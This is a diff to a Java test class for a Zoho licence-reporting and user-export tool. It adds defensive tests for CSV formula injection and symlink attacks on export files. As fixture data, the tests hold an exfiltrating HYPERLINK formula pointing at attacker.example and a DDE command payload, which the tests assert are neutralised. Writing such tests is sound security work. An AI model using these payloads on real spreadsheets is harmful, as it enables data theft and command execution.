@@ -68,7 +68,7 @@ class ReportingCommandsTests {
 		// then
 		assertThat(text.exitCode()).isZero();
 		assertThat(text.stdout()).contains("PURCHASED  USED (ZOHO)  LICENSED (US)  AVAILABLE")
-			.containsPattern("test +" + run + " .* free +10 +12 +10 +3 +10 +Zoho counts 2 more than "
+			.containsPattern("test +" + run + " .* free +10 +12 +10 +3 +10 +1 +Zoho counts 2 more than "
 					+ "licence-consuming users \\(see zoho_licence_rule\\)");
 		JsonNode usage = this.json.readTree(json.stdout()).get(0);
 		assertThat(usage.get("connectionName").asString()).isEqualTo("test");
@@ -98,6 +98,32 @@ class ReportingCommandsTests {
 	}
 
 	@Test
+	void licencesShowsTheActiveUsersInvitedButNeverJoinedWithTheInvitationDate() throws Exception {
+		// given: Sofia Rossi is active, her invitation of 2019-08-23 never accepted
+		// (confirm false, no zuid)
+		this.fixture.complete("test", "users-page-", 4);
+
+		// when
+		Result text = JarProcess.inProcess("licences", "--connection", "test");
+		Result json = JarProcess.inProcess("licences", "--format", "json");
+
+		// then
+		assertThat(text.exitCode()).isZero();
+		assertThat(text.stdout()).contains("NEVER JOINED")
+			.contains("Connection 'test': 1 active user(s) invited, never joined")
+			.containsPattern("sofia.rossi@zylker.com +Sofia Rossi +Regular User +yes +2019-08-2[23] +\\d+");
+		JsonNode usage = this.json.readTree(json.stdout()).get(0);
+		assertThat(usage.get("licensedNeverJoined").asLong()).isOne();
+		assertThat(usage.get("invitedNeverJoined")).singleElement()
+			.satisfies(invitation -> assertThat(invitation.get("email").asString()).isEqualTo("sofia.rossi@zylker.com"))
+			.satisfies(invitation -> assertThat(invitation.get("invitedAt").asString()).startsWith("2019-08-2"));
+		assertThat(this.fixture.jdbc()
+			.sql("select zoho_user_id from zoho_pending_invitations where connection_name = 'test'")
+			.query(String.class)
+			.list()).containsExactly("4150868000000238013");
+	}
+
+	@Test
 	void exportWritesTheActiveUsersAsCsvInTheDocumentedOrderQuotingOnlyWhereNeeded() throws Exception {
 		// given: a name with a comma and quotes
 		ZohoUsersListing.fromFixtures().set("225013", "full_name", "Boyle, Patricia \"Pat\"").stub(this.fixture);
@@ -116,6 +142,67 @@ class ReportingCommandsTests {
 				+ "Administrator,4150868000000026005,CEO,694579958,,Asia/Calcutta,2019-08-10T05:51:16Z,");
 		assertThat(lines.subList(1, 11)).extracting(line -> line.split(",")[1])
 			.containsExactlyElementsOf(ZohoFixture.ACTIVE_IDS);
+	}
+
+	@Test
+	void aFormulaInAUsersNameReachesTheCsvAsTextNotAsAFormula() throws Exception {
+		// given: Zoho users choose their own names
+		ZohoUsersListing.fromFixtures()
+			.set("225013", "full_name", "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")")
+			.set("225013", "first_name", "@SUM(1+1)*cmd|' /C calc'!A0")
+			.set("225013", "last_name", "-2+3")
+			.set("227013", "full_name", "+1")
+			.stub(this.fixture);
+		this.fixture.run("test");
+
+		// when
+		Result export = JarProcess.inProcess("export", "--format", "csv");
+		Result json = JarProcess.inProcess("export", "--format", "json");
+
+		// then: each such cell starts with an apostrophe (OWASP, "CSV Injection")
+		assertThat(export.exitCode()).isZero();
+		assertThat(export.stdout()).contains(
+				",\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"Click\"\")\",'@SUM(1+1)*cmd|' /C calc'!A0,'-2+3,")
+			.contains(",'+1,")
+			.doesNotContain(",=", ",+", ",-", ",@");
+		// JSON is not a spreadsheet: it keeps the names as they are
+		assertThat(json.stdout()).contains("\"first_name\":\"@SUM(1+1)*cmd|' /C calc'!A0\"");
+	}
+
+	@Test
+	void anExportNeverWritesThroughALinkPlantedAtItsPartialFile() throws Exception {
+		// given: another account, able to write the directory, links the partial file
+		// to a file of ours
+		this.fixture.complete("test", "users-page-", 4);
+		Path victim = Files.writeString(this.directory.resolve("authorized_keys"), "ssh-ed25519 AAAAC3Nz owner@host\n");
+		Path partial = Files.createSymbolicLink(this.directory.resolve(".users.csv.partial"), victim);
+		Path file = this.directory.resolve("users.csv");
+
+		// when
+		Result export = JarProcess.inProcess("export", "--format", "csv", "--output", file.toString());
+
+		// then: refused, the link left as it was for the owner to look at
+		assertThat(export.exitCode()).isEqualTo(2);
+		assertThat(export.stderr()).contains(partial + " exists and is not a file of this account");
+		assertThat(victim).hasContent("ssh-ed25519 AAAAC3Nz owner@host\n");
+		assertThat(Files.isSymbolicLink(partial)).isTrue();
+		assertThat(file).doesNotExist();
+	}
+
+	@Test
+	void aPartialFileACrashedExportLeftIsReplaced() throws Exception {
+		// given
+		this.fixture.complete("test", "users-page-", 4);
+		Files.writeString(this.directory.resolve(".users.csv.partial"), "half an export");
+		Path file = this.directory.resolve("users.csv");
+
+		// when
+		Result export = JarProcess.inProcess("export", "--format", "csv", "--output", file.toString());
+
+		// then
+		assertThat(export.exitCode()).as(export.stderr()).isZero();
+		assertThat(Files.readAllLines(file)).hasSize(11).first().isEqualTo(USERS_HEADER);
+		assertThat(this.directory).isDirectoryNotContaining(path -> path.getFileName().toString().endsWith(".partial"));
 	}
 
 	@Test
